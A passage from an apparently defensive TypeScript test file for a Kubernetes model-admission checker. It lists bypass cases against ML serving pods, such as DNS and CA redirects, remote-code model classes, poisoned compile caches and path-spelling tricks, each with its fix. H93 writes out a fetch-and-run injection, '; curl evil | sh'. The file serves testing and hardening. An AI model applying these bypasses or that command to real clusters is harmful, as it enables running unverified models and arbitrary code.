    "src/workloads/pod.ts:51 (meta: obj(comp.metadata); KServe's ComponentExtensionSpec carries labels and annotations directly). Fix: a KServe component's pod metadata is {labels: comp.labels, annotations: comp.annotations} merged over the object's (as KServe does); the sensitivity floor reads it",
  ),
  hole(
    'H81',
    'env-reading',
    'TorchServe: TS_CONFIG_FILE (the variable form of the unreadable --ts-config)',
    pod('prod', {
      containers: [
        {
          name: 'ts',
          image: img('pytorch/torchserve'),
          command: ['torchserve', '--foreground', '--model-store', '/models/m', '--models', 'all'],
          env: [{ name: 'TS_CONFIG_FILE', value: '/cfg/config.properties' }],
          volumeMounts: [...ro, cfgMount],
        },
      ],
      volumes: [modelVol, cfgVol],
    }),
    'TorchServe takes its config from TS_CONFIG_FILE before --ts-config, and from ./config.properties when neither is set (so a workingDir on a ConfigMap does the same): model_store, load_models, enable_model_api=true with allowed_urls, enable_envvars_config (then TS_* variables set any key). --ts-config is refused as unreadable; its two other spellings are admitted',
    "src/workloads/servers.ts:489-500 (the TorchServe grammar reads flags only; config-file variables and the working directory's config.properties are not inputs). Fix: each grammar lists every way its server finds a config file (variable, flag, working directory) and treats them alike",
  ),
  hole(
    'H82',
    'env-reading',
    'MLServer settings from the environment: MLSERVER_MODEL_HUGGINGFACE_PRETRAINED_MODEL',
    pod('prod', {
      containers: [
        {
          name: 'mlserver',
          image: img('seldonio/mlserver'),
          args: ['start', '/models/m'],
          env: [
            { name: 'MLSERVER_MODEL_IMPLEMENTATION', value: 'mlserver_huggingface.HuggingFaceRuntime' },
            { name: 'MLSERVER_MODEL_HUGGINGFACE_PRETRAINED_MODEL', value: 'evil-org/x' },
          ],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    "MLServer's settings are pydantic BaseSettings with env prefixes: the Hugging Face runtime downloads pretrained_model (unpinned, unsourced) from the hub; MLSERVER_MODEL_EXTRA (JSON) does the same, and MLSERVER_MODEL_ENVIRONMENT_TARBALL unpacks and runs a Python environment from any path",
    'src/workloads/servers.ts:479-487 (MLServer env: only MLSERVER_MODEL_URI and MLSERVER_MODELS_DIR). Fix: every variable with a settings prefix the server reads (MLSERVER_MODEL_*, MLSERVER_MODEL_HUGGINGFACE_*) is read by key like a JSON option, an unknown key being unreadable',
  ),
  hole(
    'H83',
    'env-reading',
    'vLLM VLLM_MODEL_REDIRECT_PATH maps the verified model to another',
    vllmPod(
      'prod',
      withCfg({
        command: ['vllm', 'serve', '/models/m'],
        env: [{ name: 'VLLM_MODEL_REDIRECT_PATH', value: '/cfg/redirect.json' }],
      }),
      [cfgVol],
    ),
    'vLLM (maybe_model_redirect) reads the file named by VLLM_MODEL_REDIRECT_PATH and replaces a model name found in it ({"/models/m": "evil-org/x"}) before loading: modelgate checks /models/m, vLLM loads evil-org/x (or a PVC path)',
    "src/workloads/servers.ts:247 (the vLLM grammar's variables are VLLM_ALLOW_RUNTIME_LORA_UPDATING and VLLM_SERVER_DEV_MODE only). Fix: read the server's model-affecting variables (VLLM_MODEL_REDIRECT_PATH: a config file, unreadable) — and, fail-closed, treat any VLLM_* variable the grammar does not list whose value names a file or a model as unreadable",
  ),
  hole(
    'H84',
    'cache-location',
    'NVIDIA NIM: NIM_CACHE_PATH on a PVC (the default /opt/nim/.cache is refused only because it looks like a Hugging Face cache)',
    pod('tee', {
      containers: [
        {
          name: 'nim',
          image: img('nvcr.io/nim/meta/llama-3.1-8b-instruct'),
          env: [
            { name: 'NGC_API_KEY', valueFrom: { secretKeyRef: { name: 'ngc', key: 'key' } } },
            { name: 'NIM_CACHE_PATH', value: '/w' },
          ],
          volumeMounts: [{ name: 'w', mountPath: '/w' }],
        },
      ],
      volumes: [scratch],
    }),
    "LLM NIMs download the profile's weights from NGC into NIM_CACHE_PATH at start and load what is already there; NIM's documented deployment puts a PVC there. A pre-seeded cache serves any weights under the pinned image. The same PVC at /opt/nim/.cache is refused (by the Hugging Face cache pattern), the variable is not read",
    "src/workloads/servers.ts:531-545 (the NIM grammar: the image is the model; NIM_CACHE_PATH and NIM's NGC download are not modelled). Fix: NIM delivery is a download by the server (unbound) unless the image is known to carry the weights; NIM_CACHE_PATH and its default are caches",
  ),
  hole(
    'H85',
    'pin-scope',
    'vLLM --trust-remote-code --code-revision main: the pinned model runs unpinned code',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: [
            'vllm',
            'serve',
            'example-org/llama',
            '--revision',
            C,
            '--trust-remote-code',
            '--code-revision',
            'main',
          ],
        },
      ],
    }),
    "the weights come from the pinned commit, the model's Python (modeling_*.py, configuration_*.py, executed by transformers) from the branch head, which anyone who can push (H25: a PR) moves — code in the server process, which loads anything",
    "src/workloads/servers.ts:208 (--code-revision is listed among flags that name no model). Fix: --code-revision (and KServe's --code_revision) is a revision of the main model's code: with --trust-remote-code it must be a 40-hex commit under requirePinned, like --revision",
  ),
  hole(
    'H86',
    'pin-scope',
    'vLLM --tokenizer-revision main with no --tokenizer: the implicit tokenizer is unpinned',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: ['vllm', 'serve', 'example-org/llama', '--revision', C, '--tokenizer-revision', 'main'],
        },
      ],
    }),
    "the tokenizer defaults to the model's repository, fetched at --tokenizer-revision (main), not at --revision: tokenizer.json and tokenizer_config.json (its chat template, added tokens, and with --trust-remote-code its code) move with the branch. H33's fix pins an explicit --tokenizer by its own revision; the implicit one is not a candidate at all. Same in KServe's huggingfaceserver (--tokenizer_revision)",
    'src/workloads/container.ts:419-431 (revisions are matched to candidates; the implicit tokenizer — the model id at --tokenizer-revision — is never a candidate). Fix: when a tokenizer revision is given without a tokenizer, add the model id at that revision as a tokenizer candidate (and likewise for every "<artefact>-revision" whose artefact defaults to the model)',
  ),

  // ══ Round 4: found after H01-H86 (except H63, H65) were fixed ═════════════════════════════════════════
  // ── grammar-gaps: spellings the server accepts that modelgate did not ─────────────────────────────────
  hole(
    'H87',
    'grammar-gaps',
    'llama.cpp --control_vector (underscore spelling) from a PVC',
    pod('prod', {
      containers: [
        {
          name: 'llama',
          image: LLAMA,
          args: ['-m', '/models/m/model.gguf', '--control_vector', '/w/steer.gguf'],
          volumeMounts: [...ro, { name: 'w', mountPath: '/w', readOnly: true }],
        },
      ],
      volumes: [modelVol, scratch],
    }),
    'llama.cpp turns every "_" of a "--" flag into "-" before looking it up (common/arg.cpp), so --control_vector is --control-vector: a steering vector from an unchecked claim is applied to every layer of the verified model. modelgate knew no underscore form for llama.cpp, and "control_vector" matched none of the model-ish words, so the value was dropped as an unknown flag\'s',
    'src/workloads/servers.ts:325 (LLAMA_CPP has no underscoresAreDashes) and src/workloads/command-line.ts:52 (MODEL_ISH lacks "vector"). Class: a grammar must normalise flag spellings exactly as its server does; fixed for llama.cpp (underscores), and "vector" joins the model-ish words',
  ),
  hole(
    'H102',
    'grammar-gaps',
    'vLLM --load-format naming a loader plugin (weights from a peer, not from the model path)',
    vllmPod('prod', {
      command: ['vllm', 'serve', '/models/m', '--load-format', 'modelexpress'],
      env: [{ name: 'MODEL_EXPRESS_URL', value: 'modelexpress.attacker.svc:8001' }],
    }),
    "vLLM resolves --load-format through its loader registry, which plugins extend (llm-d's images ship ModelExpress, whose loader receives weights from a peer GPU over the network): the verified volume is named, other weights are loaded. --load-format was an inert value; so was --distributed-executor-backend, which also takes a Python class path",
    "src/workloads/servers.ts:211 (--load-format read as a value that names nothing). Class: a flag whose value selects among the server's built-in implementations accepts only those; a plugin's name or a class path is unreadable",
  ),
  // ── code-injection: JSON options, working directories and default caches that run code ────────────────
  hole(
    'H88',
    'code-injection',
    'vLLM --hf-overrides auto_map: the model class comes from another repository',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: [
            'vllm',
            'serve',
            'example-org/llama',
            '--revision',
            C,
            '--trust-remote-code',
            '--hf-overrides',
            '{"auto_map": {"AutoModelForCausalLM": "evil-org/x--modeling.Model"}}',
          ],
        },
      ],
    }),
    'the pinned, allowed model is loaded with a class transformers fetches from evil-org/x (the "repo--module.Class" form of auto_map), unpinned and unchecked: arbitrary Python in the server, which can load any weights. --hf-overrides was an inert value; the same for any JSON option whose strings name repositories, files or modules (--kv-transfer-config kv_connector_module_path, --compilation-config backend "evil.mod.fn", --default-mm-loras, the dotted form --hf-overrides.auto_map.X)',
    'src/workloads/servers.ts:236 (--hf-overrides read as an inert value) and src/workloads/command-line.ts:320-348 (jsonModels reads only its model keys and ignores every other key). Class: JSON options are read by key — models and revisions where the grammar says, code keys and dotted Python names unreadable, and any other string that looks like a path, URI, repository or module unreadable',
  ),
  hole(
    'H89',
    'code-injection',
    "vLLM's torch.compile cache (~/.cache/vllm, the default location) on a claim",
    vllmPod(
      'prod',
      {
        command: ['vllm', 'serve', '/models/m'],
        volumeMounts: [...ro, { name: 'w', mountPath: '/root/.cache/vllm' }],
      },
      [scratch],
    ),
    'vLLM loads the compiled graphs and Inductor kernels it finds in its cache (a hash of the model and config the deployer can compute) instead of compiling: Python and shared objects from the claim run in the server. No variable names the cache, so the code-loading variables (VLLM_CACHE_ROOT, TORCHINDUCTOR_CACHE_DIR, TRITON_CACHE_DIR) never saw it. Same for ~/.cache/torch_extensions, ~/.cache/flashinfer, ~/.triton, ~/.nv and /tmp/torchinductor_<user>',
    'src/workloads/overlays.ts:35 (HOME_CODE_LOCATIONS covers .local/.config/... but not the compiled-code caches at their default locations). Class: a volume at, inside or above a default compiled-code cache is a volume over code',
  ),
  hole(
    'H90',
    'code-injection',
    "TorchInductor's default cache: a claim mounted at /tmp",
    vllmPod(
      'prod',
      { command: ['vllm', 'serve', '/models/m'], volumeMounts: [...ro, { name: 'w', mountPath: '/tmp' }] },
      [scratch],
    ),
    'torch.compile reads /tmp/torchinductor_root/ (compiled Python wrappers and .so kernels) before compiling: the claim supplies code the server runs',
    'as H89 (src/workloads/overlays.ts:35)',
  ),
  hole(
    'H91',
    'exec-identity',
    "vLLM's image entrypoint (python3 -m vllm.entrypoints.openai.api_server) with workingDir on a ConfigMap",
    vllmPod('prod', withCfg({ args: ['--model', '/models/m'], workingDir: '/cfg' }), [cfgVol]),
    "python -m puts the working directory first on sys.path, so /cfg/vllm/ (ConfigMap items with paths) replaces the vllm package the official image ships: H09 with the image's own entrypoint instead of an explicit command. Also a volume over the image's WORKDIR (/vllm-workspace) without workingDir, and KServe's server images (python -m huggingfaceserver)",
    "src/workloads/container.ts:368 (an entrypoint recognised by image is trusted; the python -m working-directory rule, programOrigin at container.ts:391, runs only for an explicit command). Class: the working directory of an image's entrypoint is part of what runs",
  ),
  hole(
    'H98',
    'code-injection',
    'XDG_CACHE_HOME on a claim beside a signed model (every ~/.cache code cache moves there)',
    pod(
      'signed',
      {
        containers: [
          {
            name: 'server',
            image: VLLM,
            args: ['--model', '/models/m'],
            env: [{ name: 'XDG_CACHE_HOME', value: '/cache' }],
            volumeMounts: [
              { name: 'w', mountPath: '/models/m', readOnly: true },
              { name: 'c', mountPath: '/cache' },
            ],
          },
        ],
        volumes: [
          { name: 'w', persistentVolumeClaim: { claimName: 'models-llama', readOnly: true } },
          { name: 'c', persistentVolumeClaim: { claimName: 'shared-cache' } },
        ],
      },
      annotate([
        {
          name: 'llama',
          volume: 'w',
          digest: SIGNED,
          signature: { configMapRef: { name: 'model-sig', key: 'model.sig' } },
        },
      ]),
    ),
    "vLLM keeps its torch.compile cache in $XDG_CACHE_HOME/vllm (torch extensions, FlashInfer and outlines' caches follow the same variable): compiled Python and kernels from a shared claim run in the server of a signed, verified model. XDG_CACHE_HOME was read only as the Hugging Face download cache, which a signed model makes irrelevant",
    'src/workloads/servers.ts:117 (XDG_CACHE_HOME is a download-cache variable only) and src/workloads/code-env.ts:11-46 (CODE_ENV lacks the cache and tool variables of compilers: XDG_CACHE_HOME, TRITON_HOME, CUDA_CACHE_PATH, FLASHINFER_WORKSPACE_BASE, CC, ...). Class: every variable that moves a compiled-code cache or names a compiler or injected library is code-loading environment',
  ),
  // ── object-level: KServe fields that name what is loaded ───────────────────────────────────────────
  hole(
    'H92',
    'object-level',
    'InferenceService storageUris (multiple storage URIs) from any bucket',
    isvc({
      predictor: {
        model: {
          modelFormat: { name: 'huggingface' },
          storageUri: `hf://example-org/llama:${C}`,
          storageUris: [{ uri: 's3://evil-bucket/lora', path: '/mnt/models/adapters' }],
        },
      },
    }),
    "KServe's storage initializer downloads every storageUris entry into the component's /mnt/models (documented for base model + adapters); modelgate read storageUri only, so the object was admitted and the audit reported it compliant. Any other storage* field KServe adds later was ignored the same way",
    'src/workloads/extract.ts:364-398 (scanKServeComponent reads storageUri and storage only). Class: every storage field of a KServe component and model field is read (storageUri, storageUris[].uri, storage) and any other storage* field is unreadable',
  ),
  hole(
    'H93',
    'object-level',
    'LLMInferenceService VLLM_ADDITIONAL_ARGS: more vLLM flags, evaluated by the shell',
    {
      apiVersion: 'serving.kserve.io/v1alpha1',
      kind: 'LLMInferenceService',
      metadata: { name: 'l', namespace: 'prod' },
      spec: {
        model: { uri: `hf://example-org/llama:${C}`, name: 'llama' },
        template: {
          containers: [
            { name: 'main', env: [{ name: 'VLLM_ADDITIONAL_ARGS', value: '--tokenizer evil-org/tok' }] },
          ],
        },
      },
    },
    'KServe\'s vLLM template runs eval "vllm serve /mnt/models ... ${VLLM_ADDITIONAL_ARGS} $@": the variable is the documented way to pass vLLM flags to an LLMInferenceService, so --tokenizer, --speculative-config or --lora-modules there load unchecked models, and "; curl evil | sh" runs any command. modelgate read the args of the main container as vLLM but not this variable',
    "src/workloads/container.ts:277 (a vLLM patch container contributes only its args). Class: what KServe's template adds to the command line is read as the command line (literal words only; anything the shell would evaluate is unreadable)",
  ),
  // ── source-provenance: name resolution and trust the pod sets ─────────────────────────────────────
  hole(
    'H94',
    'source-provenance',
    'hostAliases send huggingface.co to the deployer, whose CA is a ConfigMap over /etc/ssl/certs',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
          volumeMounts: [{ name: 'cfg', mountPath: '/etc/ssl/certs', readOnly: true }],
        },
      ],
      volumes: [cfgVol],
      hostAliases: [{ ip: '10.1.2.3', hostnames: ['huggingface.co', 'cas-bridge.xethub.hf.co'] }],
    }),
    "H70 without the variable: the system trust store is replaced by a mount instead of REQUESTS_CA_BUNDLE, so the unbound hub download of the pinned commit comes from 10.1.2.3 with any bytes. hostAliases, dnsPolicy None with the pod's own nameservers or search domains, and a file over /etc/hosts or /etc/resolv.conf were never read; nor was a volume over /etc/ssl or /etc/pki",
    "src/workloads/downloads.ts:21 (readDownloadEnv reads endpoint variables only; the pod spec's hostAliases/dnsConfig and mounts over resolver files and trust stores are not inputs). Class: for containers that download at run time, anything that changes where a host resolves or which certificate authority is trusted is a redirect (unbound models)",
  ),
  hole(
    'H95',
    'source-provenance',
    "the pod's own DNS server (dnsPolicy None) for a storage-initializer download",
    withPodSpec(
      downloaded({
        name: 'storage-initializer',
        image: SI,
        args: ['s3://models-prod/llama', '/mnt/models'],
        volumeMounts: [
          { name: 'k', mountPath: '/mnt/models' },
          { name: 'cfg', mountPath: '/etc/ssl/certs/ca-certificates.crt', subPath: 'ca.crt' },
        ],
      }),
      (spec) => ({
        ...spec,
        dnsPolicy: 'None',
        dnsConfig: { nameservers: ['10.1.2.3'] },
        volumes: [...(spec.volumes as Obj[]), cfgVol],
      }),
    ),
    'the allowed bucket name resolves through the deployer\'s nameserver to their server; with their CA trusted, it serves files for which the deployer declared the digest (prod signs nothing), and the verifier then "verifies" them',
    'as H94 (src/workloads/downloads.ts:21)',
  ),
  // ── cross-pod-integrity ───────────────────────────────────────────────────────────────────────────
  hole(
    'H96',
    'cross-pod-integrity',
    'a Windows HostProcess container beside the server',
    pod('prod', {
      containers: [
        { name: 'server', image: VLLM, command: ['vllm', 'serve', '/models/m'], volumeMounts: ro },
        {
          name: 'istio-proxy',
          image: ISTIO,
          securityContext: { windowsOptions: { hostProcess: true } },
        },
      ],
      volumes: [modelVol],
    }),
    "a HostProcess container runs as a process on the node itself, outside any container: the node's files, every pod's volumes included. It is privileged in all but name",
    'src/workloads/container.ts:263 (privileged reads securityContext.privileged and capabilities only; windowsOptions.hostProcess, container or pod level, is not read)',
  ),
  // ── object-level, judged in the Pods (a limitation, like H57) ─────────────────────────────────────
  hole(
    'H97',
    'object-level',
    'LLMInferenceService baseRefs: a configuration object the namespace wrote',
    {
      apiVersion: 'serving.kserve.io/v1alpha1',
      kind: 'LLMInferenceService',
      metadata: { name: 'l', namespace: 'prod' },
      spec: {
        model: { uri: `hf://example-org/llama:${C}`, name: 'llama' },
        baseRefs: [{ name: 'my-config' }],
      },
    },
    "KServe merges the LLMInferenceServiceConfig objects baseRefs names (namespaced, editable by the deployer) into the spec: their template's image, command, env and init containers are not in the object. As with H57 (a ServingRuntime), the object is judged by what it says and the merged containers in the Pods",
    "src/workloads/extract.ts:364 (scanKServeComponent does not read baseRefs). Limitation: keep Pods in every policy's kinds (docs/policy.md)",
  ),
  // ── signature-scope, round 5: paths a container names that the read-path check did not see ───────────
  hole(
    'H103',
    'signature-scope',
    '256 harmless paths on a scratch volume, then a chat template from an ignored folder of the signed model',
    signedReadPod(
      {
        command: [
          'vllm',
          'serve',
          '/models/m',
          ...Array.from({ length: 260 }, (_, i) => `--x${i}=/scratch/f${i}`),
          '--chat-template',
          '/models/m/ignore-me/chat.jinja',
        ],
      },
      [{ name: 's', mountPath: '/scratch' }],
      [{ name: 's', emptyDir: {} }],
    ),
    'named paths were collected up to a cap of 256 per container and the rest dropped silently: the 257th path (an unsigned chat template under an ignored folder of the signed model) reached neither the admission check nor the runtime verifier',
    'src/workloads/container.ts:127 (namedVolumePaths returned at MAX_NAMED_PATHS without a finding). Class: a bound on what is read must refuse what it did not read',
  ),
  hole(
    'H104',
    'signature-scope',
    'a chat template named through ".." inside the signed model',
    signedReadPod({
      command: ['vllm', 'serve', '/models/m', '--chat-template', '/models/m/x/../ignore-me/chat.jinja'],
    }),
    'normalisePath refuses ".." by returning nothing, and namedVolumePaths skipped such a path: the server opens ignore-me/chat.jinja (unsigned, excused by the signature) and no check saw it',
    'src/workloads/container.ts:129-131 (a path normalisePath rejects was skipped, not refused). Class: a path modelgate cannot place is a finding, never "no path"',
  ),
  hole(
    'H105',
    'signature-scope',
    'relative paths opened in a working directory inside the signed model (ignore-me/chat.jinja, ./.gitattributes)',
    signedReadPod({
      command: ['vllm', 'serve', '.', '--chat-template', './.gitattributes'],
      workingDir: '/models/m',
    }),
    "the server opens relative paths in its working directory: with workingDir on the signed volume, --chat-template ./.gitattributes reads a file model signing always ignores (attacker's Jinja under a valid signature). Only absolute paths were collected",
    'src/workloads/container.ts:128 (tokens not starting with "/" were skipped whatever the working directory). Class: a relative path names a file in the working directory; resolve it there',
  ),
  hole(
    'H106',
    'signature-scope',
    'the declared subPath spelled "./llama", and a second mount of the volume at subPath "llama" naming an ignored file',
    pod(
      'signed',
      {
        containers: [
          {
            name: 'server',
            image: VLLM,
            command: ['vllm', 'serve', '/models/m', '--chat-template', '/x/ignore-me/chat.jinja'],
            volumeMounts: [
              { name: 'w', mountPath: '/models/m', subPath: './llama', readOnly: true },
              { name: 'w', mountPath: '/x', subPath: 'llama', readOnly: true },
            ],
          },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-llama', readOnly: true } }],
      },
      annotate([
        {
          name: 'llama',
          volume: 'w',
          subPath: './llama',
          digest: SIGNED,
          signature: { configMapRef: { name: 'model-sig', key: 'model.sig' } },
        },
      ]),
    ),
    'subPaths were compared as written: "llama/ignore-me/chat.jinja" does not start with "./llama/", so the path read through the second mount was outside the model as modelgate saw it and never checked, while the kubelet mounts one directory for both spellings ("llama/" likewise)',
    'src/workloads/extract.ts:261-265 with src/workloads/pod.ts:197 and src/workloads/annotation.ts:125 (subPath kept as written). Class: one spelling per path before any comparison',
  ),
  // ── exec-identity, round 5: an official image's entrypoint script reads more than its arguments ─────
  hole(
    'H107',
    'exec-identity',
    "Google's TGI image: AIP_STORAGE_URI makes its entrypoint download a gs:// model and serve it instead of MODEL_ID",
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: TGI_DLC,
          env: [
            { name: 'MODEL_ID', value: 'example-org/llama' },
            { name: 'REVISION', value: C },
            { name: 'AIP_STORAGE_URI', value: 'gs://attacker-bucket/model' },
          ],
        },
      ],
    }),
    "the image's entrypoint.sh copies gs://$AIP_STORAGE_URI/* into /tmp/model and exports MODEL_ID=/tmp/model before running text-generation-launcher: the attacker's bucket is served while modelgate checked the pinned, allowed example-org/llama",
    'src/workloads/servers.ts:981 (the image is recognised by its entrypoint as text-generation-launcher; the script around it was not read). Class: an official image recognised by its entrypoint must be read as its entrypoint runs, script included',
  ),
  hole(
    'H108',
    'exec-identity',
    "Google's TGI image: one argument with a space becomes two options after the entrypoint's unquoted $@",
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: TGI_DLC,
          args: [
            '--model-id',
            'example-org/llama',
            '--revision',
            C,
            '--hostname',
            '0.0.0.0 --lora-adapters attacker-org/lora',
          ],
        },
      ],
    }),
    'modelgate read "0.0.0.0 --lora-adapters attacker-org/lora" as the inert value of --hostname; the script runs text-generation-launcher $@ unquoted, so the shell splits it and TGI loads the unpinned adapter from another source',
    'src/workloads/servers.ts:981 (args were read as the server receives them from an exec-form entrypoint). Class: arguments re-read by a shell must be refused unless the shell leaves them unchanged',
  ),
  hole(
    'H109',
    'exec-identity',
    "llama.cpp's full image by digest: tools.sh reads -s as 'start llama-server' and serves an unpinned hub model",
    pod('team', {
      containers: [{ name: 'server', image: LLAMA, args: ['-s', '-hf', 'attacker-org/model'] }],
    }),
    'modelgate read the args as llama-server\'s (-s is --seed, taking "-hf"; the hub id a stray word), so no model was named and the digest-pinned image passed requirePinned. The repository\'s full images run tools.sh, which starts llama-server -hf attacker-org/model (main branch, unpinned); the tag that tells full from server images is not what the runtime pulls',
    'src/workloads/servers.ts:986 (the repository fixes the entrypoint; its full tags have another one). Class: an entrypoint that differs between images of one repository cannot be trusted to read args',
  ),
];

/** vLLM reading the signed PVC (ClusterModelPolicy signed), plus what the case adds. */
function signedReadPod(container: Obj, extraMounts: Obj[] = [], extraVolumes: Obj[] = []): Obj {
  return pod(
    'signed',
    {
      containers: [
        {
          name: 'server',
          image: VLLM,
          ...container,
          volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }, ...extraMounts],
        },
      ],
      volumes: [
        { name: 'w', persistentVolumeClaim: { claimName: 'models-llama', readOnly: true } },
        ...extraVolumes,
      ],
    },
    annotate([
      {
        name: 'llama',
        volume: 'w',
        digest: SIGNED,
        signature: { configMapRef: { name: 'model-sig', key: 'model.sig' } },
      },
    ]),
  );
}

function endpointPod(ep: string): Obj {
  return pod(
    'prod',
    {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
          env: [
            { name: 'HF_ENDPOINT', valueFrom: { fieldRef: { fieldPath: "metadata.annotations['ep']" } } },
          ],
        },
      ],
    },
    { annotations: { ep } },
  );
}

function loraLabelPod(v: string): Obj {
  return vllmPod(
    'prod',
    {
      command: ['vllm', 'serve', '/models/m', '--enable-lora'],
      env: [
        {
          name: 'VLLM_ALLOW_RUNTIME_LORA_UPDATING',
          valueFrom: { fieldRef: { fieldPath: "metadata.labels['lora']" } },
        },
      ],
    },
    [],
    { labels: { lora: v } },
  );
}

const falsePositive = (
  id: string,
  name: string,
  object: Obj,
  achieves: string,
  cause: string,
): ReviewCase => ({
  id,
  class: 'false-positive',
  name,
  object,
  // Fixed: today's verdict is the documented one.
  now: 'admitted',
  want: 'admitted',
  achieves,
  cause,
});

export const FALSE_POSITIVES: ReviewCase[] = [
  falsePositive(
    'FP63a',
    "vLLM from the platform's mirror, approved in spec.serverImages",
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: img('registry.example.com/mirror/vllm/vllm-openai'),
          command: ['vllm', 'serve', '/models/m'],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    'air-gapped clusters run mirrored server images; the platform team vouches for the mirror as vLLM',
    'src/policy/checks/containers.ts:64 (a server in an image neither official nor approved is refused: the approval admits it)',
  ),
  falsePositive(
    'FP63b',
    "vLLM in llm-d's image (LLMInferenceService's default)",
    pod('prod', {
      containers: [
        {
          name: 'main',
          image: img('ghcr.io/llm-d/llm-d-cuda'),
          command: ['vllm', 'serve', '/models/m'],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    "llm-d publishes vLLM builds; KServe's LLMInferenceService runs them by default",
    "src/workloads/servers.ts:895 (OFFICIAL_IMAGES lists the publishers' repositories)",
  ),
  falsePositive(
    'FP01',
    'vLLM --model X --disable-log-requests --port 8000',
    vllmPod('prod', {
      command: ['vllm', 'serve'],
      args: ['--model', '/models/m', '--disable-log-requests', '--port', '8000'],
    }),
    'a common manifest; --disable-log-requests takes no value',
    'src/workloads/servers.ts:178 (eats "--port", then "8000" is read as the positional model)',
  ),
  falsePositive(
    'FP02',
    'nice -n 10 vllm serve',
    vllmPod('prod', { command: ['nice', '-n', '10', 'vllm', 'serve', '/models/m'] }),
    'docs/policy.md says launchers such as nice are read through',
    'src/workloads/argv.ts:102-107 (launcher options that take a value: nice -n, stdbuf -o, tini -e, dumb-init --rewrite, env -S; numactl, taskset, timeout are not launchers)',
  ),
  falsePositive(
    'FP03',
    'StatefulSet whose model is on a volumeClaimTemplate, declared',
    {
      apiVersion: 'apps/v1',
      kind: 'StatefulSet',
      metadata: { name: 'ss', namespace: 'signed' },
      spec: {
        serviceName: 'ss',
        selector: { matchLabels: { app: 'ss' } },
        template: {
          metadata: {
            labels: { app: 'ss' },
            ...annotate([
              {
                name: 'm',
                volume: 'models',
                digest: SIGNED,
                signature: { configMapRef: { name: 'model-sig', key: 'model.sig' } },
              },
            ]),
          },
          spec: {
            containers: [
              {
                name: 'server',
                image: VLLM,
                args: ['--model', '/models/m'],
                volumeMounts: [{ name: 'models', mountPath: '/models/m', readOnly: true }],
              },
            ],
          },
        },
        // Claims models-ss-0, models-ss-1, ...: inside signed's pvc://models-* source; the model is signed.
        volumeClaimTemplates: [
          {
            metadata: { name: 'models' },
            spec: { accessModes: ['ReadOnlyMany'], resources: { requests: { storage: '20Gi' } } },
          },
        ],
      },
    },
    'StatefulSets are a supported kind; their per-pod claims are volumes of the pods (name <tpl>-<sts>-<n>)',
    'src/workloads/pod.ts:20-25 and src/workloads/extract.ts:424-433 (volumeClaimTemplates are not volumes)',
  ),
  falsePositive(
    'FP04',
    'TorchServe --models name=file.mar relative to --model-store',
    pod('prod', {
      containers: [
        {
          name: 'ts',
          image: img('pytorch/torchserve'),
          command: [
            'torchserve',
            '--foreground',
            '--model-store',
            '/models/m',
            '--models',
            'densenet=densenet161.mar',
          ],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    'TorchServe resolves a relative .mar in the model store (the verified volume); "--models all" likewise',
    'src/workloads/container.ts:671-674 (read as a file of the server image)',
  ),
  falsePositive(
    'FP05',
    'vLLM --lora-modules JSON with base_model_name',
    vllmPod('prod', {
      command: [
        'vllm',
        'serve',
        '/models/m',
        '--enable-lora',
        '--lora-modules',
        '{"name": "sql", "path": "/models/m/lora", "base_model_name": "meta-llama/Llama-2-7b"}',
      ],
    }),
    'base_model_name is a label in /v1/models, nothing is loaded from it',
    'src/workloads/command-line.ts:239 (base_model_name listed among the path keys)',
  ),
  falsePositive(
    'FP06',
    'vLLM flags in underscore form (--max_model_len)',
    vllmPod('prod', { command: ['vllm', 'serve', '/models/m', '--max_model_len', '4096'] }),
    "vLLM's FlexibleArgumentParser turns underscores into dashes",
    'src/workloads/servers.ts:121-193 (the vLLM grammar lacks underscoresAreDashes), so MODEL_ISH fires',
  ),
  falsePositive(
    'FP07',
    'KServe storage initializer with S3_ENDPOINT=s3.amazonaws.com (no verifier)',
    pod(
      'prod',
      {
        initContainers: [
          {
            name: 'storage-initializer',
            image: SI,
            args: [`s3://models-prod/llama`, '/mnt/models'],
            env: [
              { name: 'S3_ENDPOINT', value: 's3.amazonaws.com' },
              { name: 'S3_USE_HTTPS', value: '1' },
            ],
            volumeMounts: [{ name: 'k', mountPath: '/mnt/models' }],
          },
        ],
        containers: [
          {
            name: 'kserve-container',
            image: HFS,
            args: ['--model_dir=/mnt/models'],
            volumeMounts: [{ name: 'k', mountPath: '/mnt/models', readOnly: true }],
          },
        ],
        volumes: [{ name: 'k', emptyDir: {} }],
      },
      annotate([{ name: 'm', volume: 'k', digest: SIGNED }]),
    ),
    "KServe's S3 secret annotations set the AWS default endpoint; it was refused for the redirect (run under prod, whose verifier checks the download, so the redirect is the only question)",
    'src/workloads/servers.ts:114-119 (DEFAULT_ENDPOINTS has no S3/GCS defaults)',
  ),
  falsePositive(
    'FP08',
    'vLLM --generation-config vllm',
    vllmPod('prod', { command: ['vllm', 'serve', '/models/m', '--generation-config', 'vllm'] }),
    'the value is a keyword (auto|vllm) in most manifests; a folder path would be a real input',
    'src/workloads/command-line.ts:42-43 (MODEL_ISH on "config"); same for --ssl-keyfile, --model-impl, --tokenizer-pool-size',
  ),
  falsePositive(
    'FP09',
    'a signed model in a subPath of an allowed claim (pvc://models-* with subPath)',
    pod(
      'signed',
      {
        containers: [
          {
            name: 'server',
            image: VLLM,
            args: ['--model', '/models/m'],
            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true, subPath: 'llama' }],
          },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-llama', readOnly: true } }],
      },
      annotate([
        {
          name: 'llama',
          volume: 'w',
          subPath: 'llama',
          digest: SIGNED,
